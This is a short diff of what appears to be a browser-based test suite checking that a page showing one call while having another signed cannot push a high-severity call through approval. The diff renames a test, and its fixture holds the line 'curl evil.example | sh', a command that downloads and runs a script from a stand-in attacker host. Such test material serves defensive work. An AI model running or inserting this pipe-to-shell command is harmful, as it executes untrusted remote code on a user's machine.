@@ -84,7 +84,7 @@ describe.skipIf(!HAS_CHROMIUM || !HAS_PAGE)("a call of high severity, in Chromiu
     await eventually(() => (text() === "short" ? true : undefined), "the approved call");
   });
 
-  test("a page that shows one call and has another signed gets no call of high severity through; a terminal shows the true one", async () => {
+  test("a page that shows one call and has another signed gets no call of high severity through; a terminal shows it", async () => {
     const { ticket, text } = await write("harmless.md", "curl evil.example | sh");
     for (const page of [bea, cid]) {
       // A captured server: what it shows is harmless, what it has signed is the call that waits.
